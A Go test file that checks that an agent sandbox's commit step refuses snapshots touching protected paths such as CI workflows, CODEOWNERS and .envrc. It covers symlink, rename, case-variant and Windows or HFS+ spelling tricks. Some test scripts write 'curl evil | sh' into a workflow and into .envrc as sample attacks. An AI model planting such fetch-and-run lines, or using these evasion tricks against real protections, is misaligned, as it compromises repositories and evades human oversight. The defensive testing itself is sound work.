package gitops

import (
	"bytes"
	"context"
	"errors"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/runner-dev/runner/internal/policy"
)

var testProtected = []string{".github/workflows/**", ".gitmodules"}

// A snapshot that changes a protected path, however, is refused whole:
// no branch, no object, the user's repository as it was.
func TestCommitTreeRefusesProtectedChanges(t *testing.T) {
	baseFiles := map[string]file{
		"README.md":                {content: "# app\n"},
		".gitmodules":              {content: "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.com/lib.git\n"},
		".github/workflows/ci.yml": {content: "on: push\n"},
	}
	// The snapshot entries every case starts from: the base, unchanged.
	unchanged := []entry{
		{name: "README.md", body: "# app\n"},
		{name: ".gitmodules", body: "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.com/lib.git\n"},
		{name: ".github/workflows/ci.yml", body: "on: push\n"},
	}
	with := func(drop []string, add ...entry) []entry {
		var out []entry
		for _, e := range unchanged {
			if !slices.Contains(drop, e.name) {
				out = append(out, e)
			}
		}
		return append(out, add...)
	}
	tests := []struct {
		name    string
		entries []entry
		want    string // the error's list of paths
	}{
		{"workflow added", with(nil, entry{name: ".github/workflows/release.yml", body: "on: tag\n"}),
			".github/workflows/release.yml (added)"},
		{"workflow modified", with([]string{".github/workflows/ci.yml"}, entry{name: ".github/workflows/ci.yml", body: "on: pull_request_target\n"}),
			".github/workflows/ci.yml (modified)"},
		{"gitmodules deleted", with([]string{".gitmodules"}), ".gitmodules (deleted)"},
		{"workflow made a symlink", with([]string{".github/workflows/ci.yml"},
			entry{name: ".github/workflows/ci.yml", typeflag: '2', link: "../../README.md"}),
			".github/workflows/ci.yml (type changed)"},
		{"several, among allowed changes", with([]string{".gitmodules", ".github/workflows/ci.yml", "README.md"},
			entry{name: "README.md", body: "# app, edited\n"}, entry{name: ".github/workflows/ci.yml", body: "x\n"}),
			".github/workflows/ci.yml (modified), .gitmodules (deleted)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			repo, base := newRepo(t, baseFiles)
			before, objects := stateOf(t, repo), objectFiles(t, repo)
			_, err := CommitTree(context.Background(), repo, base, bytes.NewReader(tarOf(t, tt.entries...)),
				CommitOptions{Branch: "agent/x", Protected: testProtected})
			if !errors.Is(err, ErrProtectedPath) {
				t.Fatalf("CommitTree err = %v, want ErrProtectedPath", err)
			}
			if got, want := err.Error(), "changes to protected paths: "+tt.want; got != want {
				t.Errorf("error = %q, want %q", got, want)
			}
			var pe *ProtectedPathError
			if !errors.As(err, &pe) || strings.Join(pe.Paths(), ", ") != pathsOf(tt.want) {
				t.Errorf("ProtectedPathError paths = %v, want %s", pe, pathsOf(tt.want))
			}
			if branchExists(repo, "agent/x") {
				t.Error("a branch was created for a refused snapshot")
			}
			if after := objectFiles(t, repo); !slices.Equal(after, objects) {
				t.Errorf("objects written for a refused snapshot: %d before, %d after", len(objects), len(after))
			}
			assertStateUnchanged(t, repo, before)
			gitRun(t, repo, "fsck", "--strict")
		})
	}
}

// pathsOf keeps the paths of a "path (kind), path (kind)" list.
func pathsOf(list string) string {
	var paths []string
	for item := range strings.SplitSeq(list, ", ") {
		p, _, _ := strings.Cut(item, " (")
		paths = append(paths, p)
	}
	return strings.Join(paths, ", ")
}

// Protected paths that a snapshot leaves as they are do not stop it, and
// without protection the same change is committed.
func TestCommitTreeAllowsUnprotectedChanges(t *testing.T) {
	repo, base := newRepo(t, map[string]file{"README.md": {content: "a\n"}, ".gitmodules": {content: "m\n"}})
	ctx := context.Background()
	snap := tarOf(t, entry{name: "README.md", body: "b\n"}, entry{name: ".gitmodules", body: "m\n"},
		entry{name: "docs/workflows/ci.yml", body: "not CI\n"})
	res, err := CommitTree(ctx, repo, base, bytes.NewReader(snap), CommitOptions{Branch: "agent/ok", Protected: testProtected})
	if err != nil {
		t.Fatalf("CommitTree: %v", err)
	}
	if got := changesText(res.Changes); got != "M\tREADME.md\nA\tdocs/workflows/ci.yml" {
		t.Errorf("changes = %q", got)
	}
	if got := gitRun(t, repo, "diff", "--name-status", base.String(), "agent/ok"); got != "M\tREADME.md\nA\tdocs/workflows/ci.yml" {
		t.Errorf("git diff base..agent/ok:\n%s", got)
	}
	deleting := tarOf(t, entry{name: "README.md", body: "a\n"})
	if _, err := CommitTree(ctx, repo, base, bytes.NewReader(deleting), CommitOptions{Branch: "agent/unprotected"}); err != nil {
		t.Fatalf("CommitTree without Protected: %v", err)
	}
	if got := gitRun(t, repo, "diff", "--name-status", base.String(), "agent/unprotected"); got != "D\t.gitmodules" {
		t.Errorf("git diff base..agent/unprotected: %q", got)
	}
}

// protectedCase is a base tree, what the agent does to a checkout of it,
// and the refusal expected with the default protected paths.
type protectedCase struct {
	name   string
	base   map[string]file
	script string
	want   string // the error's list of changes; "" when committed
}

// workspaceAfter clones repo, runs script in the clone with sh and returns
// the tar stream the sandbox would hand back.
func workspaceAfter(t *testing.T, repo, script string) []byte {
	t.Helper()
	ws := filepath.Join(t.TempDir(), "ws")
	gitRun(t, t.TempDir(), "clone", "-q", repo, ws)
	cmd := exec.Command("sh", "-ec", script)
	cmd.Dir = ws
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s: %v\n%s", script, err, out)
	}
	return tarDir(t, ws)
}

// Every way a change can reach a protected path other than writing it by
// name: a symlink at or above it, a symlink whose target holds it, a file
// shown at one through the base's symlink, a move, a spelling a
// case-insensitive or Windows file system takes for it. Each snapshot is
// refused whole, and the user's repository is as it was.
func TestCommitTreeRefusesProtectedShapes(t *testing.T) {
	readme := map[string]file{"README.md": {content: "# app\n"}}
	tests := []protectedCase{
		{"symlink at .github", readme,
			"mkdir -p evil/workflows && echo 'on: push' > evil/workflows/x.yml && ln -s evil .github",
			".github (added, a symlink where .github/workflows/** could match below), " +
				"evil/workflows/x.yml (added, a checkout also shows it at .github/workflows/x.yml, through a symlink)"},
		{"symlink at .github/workflows", readme,
			"mkdir -p .github ci && echo 'on: push' > ci/x.yml && ln -s ../ci .github/workflows",
			".github/workflows (added, a symlink where .github/workflows/** could match below), " +
				"ci/x.yml (added, a checkout also shows it at .github/workflows/x.yml, through a symlink)"},
		{"symlink at .circleci", readme,
			"mkdir shared && echo 'version: 2.1' > shared/config.yml && ln -s shared .circleci",
			".circleci (added, a symlink where .circleci/** could match below), " +
				"shared/config.yml (added, a checkout also shows it at .circleci/config.yml, through a symlink)"},
		{"symlink at .github to outside the workspace", readme, "ln -s /home/runner/evil .github",
			".github (added, a symlink where .github/workflows/** could match below)"},
		{"symlink at .vscode", readme, "mkdir v && echo '{}' > v/settings.json && ln -s v .vscode",
			".vscode (added, a symlink where .vscode/tasks.json could match below), " +
				"v/settings.json (added, a checkout also shows it at .vscode/settings.json, through a symlink)"},
		{"symlink to a directory holding a CODEOWNERS",
			map[string]file{"templates/CODEOWNERS": {content: "* @owner\n"}}, "ln -s templates docs",
			"docs (added, a symlink through which a checkout shows docs/CODEOWNERS)"},
		{"symlink named CODEOWNERS", readme, "ln -s README.md CODEOWNERS", "CODEOWNERS (added)"},
		{"the target of the base's symlink edited",
			map[string]file{".github/workflows": {link: "../ci/workflows"}, "ci/workflows/build.yml": {content: "on: push\n"}},
			"echo '  - run: curl evil | sh' >> ci/workflows/build.yml",
			"ci/workflows/build.yml (modified, a checkout also shows it at .github/workflows/build.yml, through a symlink)"},
		{"the base's symlink replaced",
			map[string]file{".github/workflows": {link: "../ci/workflows"}, "ci/workflows/build.yml": {content: "on: push\n"}},
			"rm .github/workflows && mkdir evil && ln -s ../evil .github/workflows",
			".github/workflows (modified, a symlink where .github/workflows/** could match below)"},
		{"file moved into the workflows", map[string]file{"scripts/deploy.yml": {content: "on: push\n"}},
			"mkdir -p .github/workflows && mv scripts/deploy.yml .github/workflows/",
			".github/workflows/deploy.yml (added)"},
		{"workflows moved away", map[string]file{".github/workflows/ci.yml": {content: "on: push\n"}},
			"mv .github/workflows .github/off", ".github/workflows/ci.yml (deleted)"},
		{"workflows moved and linked back", map[string]file{".github/workflows/ci.yml": {content: "on: push\n"}},
			"mv .github/workflows wf && ln -s ../wf .github/workflows && echo evil >> wf/ci.yml",
			".github/workflows (added, a symlink where .github/workflows/** could match below), " +
				".github/workflows/ci.yml (deleted), " +
				"wf/ci.yml (added, a checkout also shows it at .github/workflows/ci.yml, through a symlink)"},
		{"case variant", readme, "mkdir -p .GitHub/Workflows && echo x > .GitHub/Workflows/ci.yml",
			".GitHub/Workflows/ci.yml (added, taken for .github/workflows/** by case-insensitive or Windows file systems)"},
		{"case variant of a rename", map[string]file{".github/workflows/ci.yml": {content: "on: push\n"}},
			"mv .github .GITHUB",
			".GITHUB/workflows/ci.yml (added, taken for .github/workflows/** by case-insensitive or Windows file systems), " +
				".github/workflows/ci.yml (deleted)"},
		{"Windows trailing dot", readme, "mkdir -p .github./workflows && echo x > .github./workflows/ci.yml",
			".github./workflows/ci.yml (added, taken for .github/workflows/** by case-insensitive or Windows file systems)"},
		{"Windows short name", map[string]file{".github/CODEOWNERS": {content: "* @owner\n"}},
			"mkdir -p GITHUB~1/workflows && echo x > GITHUB~1/workflows/ci.yml",
			"GITHUB~1/workflows/ci.yml (added, taken for .github/workflows/** by case-insensitive or Windows file systems)"},
		{"NTFS stream", readme, "echo x > '.travis.yml::$DATA'",
			".travis.yml::$DATA (added, taken for .travis.yml by case-insensitive or Windows file systems)"},
		{"HFS+ ignorable code point", readme, "mkdir -p \".git\u200chub/workflows\" && echo x > \".git\u200chub/workflows/ci.yml\"",
			".git\u200chub/workflows/ci.yml (added, taken for .github/workflows/** by case-insensitive or Windows file systems)"},
		{"developer machine files", readme, "echo 'curl evil | sh' > .envrc && mkdir .devcontainer && echo '{}' > .devcontainer/devcontainer.json && echo 'pipeline {}' > Jenkinsfile",
			".devcontainer/devcontainer.json (added), .envrc (added), Jenkinsfile (added)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			repo, base := newRepo(t, tt.base)
			snap := workspaceAfter(t, repo, tt.script)
			before, objects := stateOf(t, repo), objectFiles(t, repo)
			_, err := CommitTree(context.Background(), repo, base, bytes.NewReader(snap),
				CommitOptions{Branch: "agent/x", Protected: policy.DefaultProtected})
			if !errors.Is(err, ErrProtectedPath) {
				t.Fatalf("CommitTree err = %v, want ErrProtectedPath", err)
			}
			if got, want := err.Error(), "changes to protected paths: "+tt.want; got != want {
				t.Errorf("error =\n  %q\nwant\n  %q", got, want)
			}
			if branchExists(repo, "agent/x") {
				t.Error("a branch was created for a refused snapshot")
			}
			if after := objectFiles(t, repo); !slices.Equal(after, objects) {
				t.Errorf("objects written for a refused snapshot: %d before, %d after", len(objects), len(after))
			}
			assertStateUnchanged(t, repo, before)
		})
	}
}

// Symlinks that change nothing at a protected path are committed: one to
// a directory without protected paths, one pointing at a protected
// directory from elsewhere, one outside the workspace.
func TestCommitTreeAllowsHarmlessSymlinks(t *testing.T) {
	repo, base := newRepo(t, map[string]file{"src/main.go": {content: "package main\n"}, ".github/workflows/ci.yml": {content: "on: push\n"}})
	snap := workspaceAfter(t, repo, "ln -s src lib && ln -s .github/workflows wf && ln -s /etc etc && mkdir docs && ln -s ../src/main.go docs/main.go")
	res, err := CommitTree(context.Background(), repo, base, bytes.NewReader(snap),
		CommitOptions{Branch: "agent/ok", Protected: policy.DefaultProtected})
	if err != nil {
		t.Fatalf("CommitTree: %v", err)
	}
	if got, want := gitRun(t, repo, "diff", "--name-status", base.String(), res.Hash.String()), "A\tdocs/main.go\nA\tetc\nA\tlib\nA\twf"; got != want {
		t.Errorf("git diff:\n%s\nwant\n%s", got, want)
	}
}
